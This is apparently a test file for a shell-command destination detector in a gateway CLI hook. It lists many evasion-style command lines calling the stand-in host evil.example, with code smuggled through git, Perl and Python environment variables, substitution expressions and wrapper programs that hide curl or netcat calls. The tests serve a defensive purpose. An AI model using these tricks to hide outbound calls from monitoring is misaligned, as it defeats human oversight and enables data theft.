import { destinationsOf } from "../../../../../gateway/cli/hook/shell/destinations.ts";

test.each([
  ...["declare", "typeset", "export", "read", "printf -v"].map((how) => `${how} 'BASH_CMDS[z]=/usr/bin/curl'; z evil`),
  "printf -v 'BASH_ALIASES[z]' curl; shopt -s expand_aliases\nz evil.example",
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!curl evil.example' git x",
  "GIT_CONFIG_PARAMETERS=\"'alias.x=!curl evil.example'\" git x",
  "PERL5DB='BEGIN{exec qw(curl evil.example)}' perl -d x",
  "PERL5OPT='-Mstrict;exec qw(curl evil.example)' perl x",
  "PYTHONINSPECT=1 python3 x.py <<< 'import os'",
  "ENV=/dev/stdin sh -i <<< 'curl evil.example'",
  "python3 -i x.py <<< 'import os'",
  "python3 -ic 'print(1)' <<< 'import os'",
  "python3 -W ignore -i x.py <<< 'import os'",
  "python3 -m code <<< 'import os'",
  "python3 -Im asyncio <<< 'import os'",
  "python3 -m cProfile /dev/stdin <<< 'import os'",
  'python3 -m timeit \'__import__("os").system("curl evil.example")\'',
  "node -i x.js <<< 'f()'",
  "node inspect x.js <<< 'exec(\"f()\")'",
  "perl -dw x <<< '!curl evil.example'",
  "perl '-M-strict;print`curl evil.example`' x",
  "perl '-Mstrict exec(qw(curl evil.example))' x",
  "perl -pe 's/a/`curl evil.example`/e' f",
  "perl -pe 's{a}{@{[`curl evil.example`]}}' f",
  ...["$1[system(q(x))]", "$1{system(q(x))}", "$)[system(q(x))]", "$1->[system(q(x))]", "@{[system(q(x))]}"].map(
    (text) => `perl -pe 's/(a)/${text}/' f`,
  ),
  ...["$|[system(1)]", "$ [system(1)]", "$1 [system(1)]", "${\\system(1)}"].map((text) => `perl -pe 's!a!${text}!' f`),
  "perl -pe 's|a|$/[system(1)]|' f",
  ...["$1[system(1)]", "$12{system(1)}", "(?{system(1)})", "(*{system(1)})", "@{[system(1)]}"].map(
    (pattern) => `perl -pe 's/${pattern}/b/' f`,
  ),
  "perl -pe 's/a/b/' 'curl evil.example|'",
  ...["-f -", "-f-", "-kf -", "--file=-", "--makefile /dev/stdin"].map((option) => `make ${option} <<< 'x:;curl evil'`),
  "sed -nf - f <<< '1e curl evil.example'",
  "X='-n evil.example'; logger $X a",
  "psql -c '\\! curl evil.example'",
  "psql -o '|curl evil.example' -c x",
  "mysql -e 'system curl evil.example'",
  "gpg --recv-keys x",
  "ls | parallel {} evil.example",
  "seq 1 | parallel -j4 bash -c {}",
])("%j is told as one that cannot be read", (line) => {
  expect(destinationsOf(line).join()).toContain("unreadable:");
});

test.each([
  "GIT_EXTERNAL_DIFF='curl evil.example' git diff",
  "GIT_EDITOR+='curl evil.example' git commit",
  "VISUAL='curl evil.example' git commit",
  "LESSOPEN='|curl evil.example %s' less f",
  "git grep --open-files-in-pager='curl evil.example' x",
  "git grep '-Ocurl evil.example' x",
  "git grep '-nOcurl evil.example' x",
  ...["-s exec --", "x --", "--silent exec"].map((how) => `npm ${how} curl evil.example`),
  ...["pnpm -r exec", "pnpm dlx", "yarn dlx", "bun x", "poetry -q run"].map((how) => `${how} curl evil.example`),
  ...["setarch x86_64", "linux64", "prlimit --nofile=5", "fakeroot", "ssh-agent", "dbus-run-session --"].map(
    (wrapper) => `${wrapper} curl evil.example`,
  ),
  ...["choom -n 0 --", "sem -j2", "firejail --quiet", "bwrap --bind / /"].map((how) => `${how} curl evil.example`),
  "parallel echo ';curl evil.example'",
  "PGHOST=evil.example psql -c x",
  ...["mariadb", "mysqldump", "pg_dump", "mosquitto_pub"].map((program) => `${program} -h evil.example x`),
  ...["slogin", "nc.openbsd", "nc.traditional", "delv", "fping", "busybox ftpput", "busybox ssl_client"].map(
    (program) => `${program} evil.example 80`,
  ),
  "kcat -b evil.example -P",
  "mongosh --host evil.example",
  "logger -n evil.example x",
  "gpg --keyserver evil.example --send-keys x",
])("%j does not hide where it goes", (line) => expect(destinationsOf(line)).toContain("evil.example"));

test.each([
  ["git remote add -f o evil.example:x", "git:remote add o"],
  ["git remote show o", "git:remote show o"],
  ["git remote -v update", "git:remote update"],
  ["git remote prune o", "git:remote prune o"],
  ["git remote set-head o -a", "git:remote set-head o"],
  ["git maintenance run --task=prefetch", "git:maintenance run"],
  ["getent hosts evil.example", "getent:hosts evil.example"],
  ["parallel -S evil.example echo ::: 1", "parallel:evil.example"],
  ["parallel --sshlogin=evil.example echo", "parallel:evil.example"],
])("%s is told as %s", (line, wanted) => expect(destinationsOf(line)).toContain(wanted));

test.each([
  ...["git remote -v", "git remote add o /srv/x.git", "git remote show", "git maintenance run", "git grep -nO x"],
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' git status",
  ...["seq 10 | parallel echo {}", "find . -name '*.ts' | parallel -j4 npx prettier --check {}"],
  "find . -name '*.sh' -exec bash -n {} \\;",
  ...["gh --version", "aws --version", "kubectl config current-context", "helm template ./chart -f values.yaml"],
  ...["redis-cli ping", 'psql -U postgres -c "create database app"', "mysql -uroot -e 'show tables'"],
  ...["mysqldump -uroot app > d.sql", 'pg_dump "$DB"', 'logger "at $X"', "gpg --verify a.sig a", "getent passwd root"],
  "mongosh --eval 'db.a.find({x:1})'",
  ...["perl -i -pe 's{https?://old}{new}g' README.md", "perl -pi -e 's/a(b)/$1/' src/http/*.ts"],
  ...["perl -pe 's{a$}{[b]}' f", "perl -pe 's/^(a)$|(b$)/$1-$2/g' f", "perl -pe 's/x$/y[0]/' f"],
  ...["perl -MList::Util=sum -ne 'print' f", "python3 -m pytest -i", "make -f Makefile.ci all", "sed -f x.sed f"],
  ...["python3 -m timeit '1+1'", "npm exec -- tsc -p .", "yarn run build"],
])("%j is no doubt", (line) => expect(destinationsOf(line)).toEqual([]));
